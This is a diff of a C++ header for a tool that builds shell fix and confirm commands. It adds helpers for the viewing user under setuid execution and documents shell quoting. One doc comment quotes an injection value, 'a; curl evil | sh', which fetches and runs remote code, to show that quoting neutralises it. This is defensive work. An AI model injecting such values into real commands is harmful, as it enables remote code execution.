@@ -36,12 +36,26 @@ std::string quote_args(const std::vector<std::string>& argv);
 std::string user_of(const Observation& obs, std::int64_t uid);
 
 /**
- * `s` as one word of a POSIX shell command line: unchanged when it holds only
- * characters no shell treats specially, else single-quoted ('\'' for a quote).
+ * Whose view the report shows: the real uid under secure execution (a setuid
+ * program reports to the user who ran it, rule 12), else the effective uid.
+ */
+std::uint32_t viewer_uid(const Observation& obs);
+
+/**
+ * Under secure execution with other users' holders left out: the why line
+ * that says so; empty otherwise.
+ */
+std::string withheld_reason(const Observation& obs);
+
+/** "sudo " unless the report's viewer is root: the prefix of a confirm command. */
+std::string sudo(const Observation& obs);
+
+/**
+ * `s` as one word of a POSIX shell command line: as it is when it holds only
+ * characters no shell treats specially, else in single quotes, each ' as '\''.
+ * Every outside value (a unit or cgroup name, a path) in a fix or confirm
+ * command goes through it: "a; curl evil | sh" stays one argument.
  */
 std::string shell_quote(std::string_view s);
-
-/** "sudo " unless this process runs as root: the prefix of a confirm command. */
-std::string sudo(const Observation& obs);
 
 } // namespace portshim::detail
